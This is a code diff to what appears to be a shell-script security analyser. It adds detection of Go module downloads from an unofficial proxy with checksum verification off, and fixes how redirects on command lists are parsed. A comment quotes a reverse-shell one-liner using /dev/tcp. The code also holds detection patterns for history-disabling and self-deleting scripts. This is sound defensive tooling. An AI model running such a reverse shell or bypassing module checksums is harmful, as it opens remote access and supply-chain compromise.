@@ -133,6 +133,8 @@ class _Walker:
         self.variables = variables
         self.files = files
         self.sockets: dict[str, str] = {}
+        self.go_settings: dict[str, tuple[int, str]] = {}
+        """Go's module settings seen so far (``GOPROXY``, ``GOSUMDB`` …): their line and value."""
         self.remotes: dict[str, str] = {}
         self.extracted: Value | None = None
         """What a downloaded archive or cloned repository unpacked here holds (files run from it)."""
@@ -303,6 +305,12 @@ class _Walker:
     def redirected(self, node: Node, stdin: Value) -> Value:
         body = node.child_by_field_name("body")
         redirects = [c for c in node.named_children if c is not body]
+        while body is not None and body.type == "list" and body.named_children:
+            # `exec 3<>/dev/tcp/h/p && sh -i <&3`: the parser hangs the redirects on the whole list,
+            # but the shell applies them to its last command, after the ones before it have run
+            *before, body = body.named_children
+            for command in before:
+                self.statement(command, stdin)
         for redirect in redirects:
             if redirect.type == "file_redirect" and _operator(redirect) in ("<", "<&"):
                 target = self.value(_destination(redirect))
@@ -411,13 +419,38 @@ class _Walker:
             value = joined([self.variables.get(key, UNKNOWN), value])
         self.variables[key] = value
         share_variable(key, value)
+        self.setting(self.line(node), key, value)
+
+    def setting(self, line: int, key: str, value: Value) -> None:
+        """A variable that tells a tool where to install from, or how to check it (assigned, exported
+        or written with ``go env -w``)."""
         lowered = key.lower()
         if lowered in _INDEX_VARIABLES and value.pattern:
-            self.index(self.line(node), value.pattern)
+            self.index(line, value.pattern)
         if lowered in _MIRROR_VARIABLES and value.pattern:
-            self.mirror(self.line(node), key, value.pattern)
+            self.mirror(line, key, value.pattern)
         if lowered in ("histfile", "histsize", "savehist") and value.text in ("/dev/null", "0", ""):
-            self.out.emit(Kind.CONCEAL, "history off", self.out.at(self.line(node), "turns shell history off"))
+            self.out.emit(Kind.CONCEAL, "history off", self.out.at(line, "turns shell history off"))
+        if key.upper() in _GO_MODULE_SETTINGS and value.text is not None:
+            self.go_settings[key.upper()] = (line, value.text)
+            self.go_unverified_proxy()
+
+    def go_unverified_proxy(self) -> None:
+        """Go modules from a proxy that is not Go's own with the checksum database off: the proxy can
+        serve any code under any module's name, and nothing compares it with what everyone else got."""
+        proxy = self.go_settings.get("GOPROXY")
+        off = next(((line, f"{k}={v}") for k, (line, v) in self.go_settings.items() if _go_checksums_off(k, v)), None)
+        if proxy is None or off is None:
+            return
+        url = next((u for u in proxy[1].split(",") if "://" in u or "." in u.split("/", 1)[0]), "")
+        host = vocabulary.url_host(url if "://" in url else f"https://{url}")
+        if host is None or host in ("proxy.golang.org", "goproxy.io") or vocabulary.is_local_host(host):
+            return
+        self.out.emit(
+            Kind.INSTALL_INDEX, url,
+            self.out.at(proxy[0], f"sets GOPROXY: Go modules come from {url}"),
+            self.out.at(off[0], f"with checksum verification off ({off[1]})"),
+        )  # fmt: skip
 
     # values ---------------------------------------------------------------------------------------
 
@@ -712,6 +745,11 @@ class _Walker:
             and any(a.text == "$0" for a in args)
         ):
             self.out.emit(Kind.CONCEAL, "deletes itself", self.out.at(line, "deletes the script that ran"))
+        if name == "go" and texts[:2] == ["env", "-w"]:
+            for assignment in texts[2:]:
+                key, equals, written = (assignment or "").partition("=")
+                if equals and re.fullmatch(r"\w+", key):
+                    self.setting(line, key, Value(written))
         setting = texts[2] if len(texts) >= 3 and texts[:2] == ["config", "set"] else None
         if setting and name in ("npm", "pnpm", "yarn") and "registry" in setting:
             inline = setting.split("=", 1)[1] if "=" in setting else "?"
@@ -1997,6 +2035,23 @@ def _installed_remote_package(name: str, args: list[Value], texts: list[str | No
         if _URLISH.match(text) and not text.startswith("//"):
             return text
     return None
+
+
+_GO_MODULE_SETTINGS = frozenset({"GOPROXY", "GOSUMDB", "GONOSUMDB", "GOPRIVATE", "GOINSECURE", "GOFLAGS"})
+
+
+def _go_checksums_off(key: str, value: str) -> bool:
+    """A Go setting that skips the checksum database for every module (or all of a popular prefix)."""
+    value = value.strip().strip("\"'")
+    if key == "GOSUMDB":
+        return value.lower() == "off"
+    if key == "GOFLAGS":
+        return "-insecure" in value
+    if key in ("GONOSUMDB", "GOPRIVATE", "GOINSECURE"):
+        patterns = [p.strip() for p in value.split(",")]
+        return any(p in ("*", "*/*", "*.*") or p.startswith(("golang.org", "github.com", "google.golang.org"))
+                   for p in patterns)  # fmt: skip
+    return False
 
 
 _MIRROR_VARIABLES = frozenset(
